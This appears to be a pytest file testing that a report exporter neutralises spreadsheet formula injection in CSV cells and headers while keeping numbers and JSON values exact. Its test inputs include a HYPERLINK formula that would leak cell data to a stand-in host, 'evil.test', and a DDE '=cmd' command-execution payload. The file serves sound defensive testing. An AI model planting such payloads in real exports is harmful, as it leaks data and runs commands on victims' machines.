"""Report exports: CSV cells a spreadsheet would run as formulas are neutralised (OWASP's
leading `'`), numbers stay numbers, and the JSON files keep every value exact."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pandas as pd
import pytest

from models.report import TABLES_DIR, ReportConfig, build_report, write_report_files
from models.report.exports import spreadsheet_safe
from tests.worlds import SmallWorld, TrainedWorld

FORMULA = '=HYPERLINK("http://evil.test/?leak="&A1,"open")'
FAST = ReportConfig(chunk_rows=1_000, plot_sample=300, riskiest_sessions=3, dependence_features=2)


def test_formula_starts_are_prefixed_and_numbers_are_not() -> None:
    frame = pd.DataFrame(
        {
            "text": [
                FORMULA,
                "+1+1",
                "-2+3",
                "@SUM(A1:A9)",
                "\tcmd",
                "\rcmd",
                "-3.5",
                "+7",
                "1e-3",
                "ok",
                None,
            ],
            "number": [-1.5, -2.0, 3.0, 4.0, 5.0, 6.0, 7.0, 8.0, 9.0, 10.0, -11.0],
        }
    )
    safe = spreadsheet_safe(frame)
    assert safe["text"].tolist()[:10] == [
        "'" + FORMULA,
        "'+1+1",
        "'-2+3",
        "'@SUM(A1:A9)",
        "'\tcmd",
        "'\rcmd",
        "-3.5",
        "+7",
        "1e-3",
        "ok",
    ]
    assert pd.isna(safe["text"].iloc[10])
    pd.testing.assert_series_equal(safe["number"], frame["number"])  # negative numbers stay numbers
    assert frame["text"].iloc[0] == FORMULA  # the caller's frame is untouched


def test_categories_and_headers_are_neutralised_too() -> None:
    frame = pd.DataFrame({"=cmd|' /C calc'!A0": pd.Categorical([FORMULA, "web", FORMULA])})
    safe = spreadsheet_safe(frame)
    assert list(safe.columns) == ["'=cmd|' /C calc'!A0"]
    assert safe.iloc[:, 0].tolist() == ["'" + FORMULA, "web", "'" + FORMULA]


@pytest.fixture(scope="module")
def exported(world: SmallWorld, world_model: TrainedWorld, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A report whose `platform` segment value (from the data) is a formula."""
    table = world.table.copy()
    platform = table["context__platform"].astype(object)
    table["context__platform"] = platform.where(platform != "ios", FORMULA)
    folder = tmp_path_factory.mktemp("exports")
    write_report_files(build_report(world_model.model, table, None, FAST), folder)
    return folder / TABLES_DIR


def test_a_formula_from_the_data_is_inert_in_csv_and_exact_in_json(exported: Path) -> None:
    with (exported / "segments.csv").open(newline="", encoding="utf-8") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert "'" + FORMULA in cells
    assert FORMULA not in cells
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
    records = json.loads((exported / "segments.json").read_text(encoding="utf-8"))
    assert FORMULA in {str(r.get("value")) for r in records}
    numbers = pd.read_csv(exported / "segments.csv")
    assert pd.api.types.is_numeric_dtype(numbers.select_dtypes("number").iloc[:, 0])
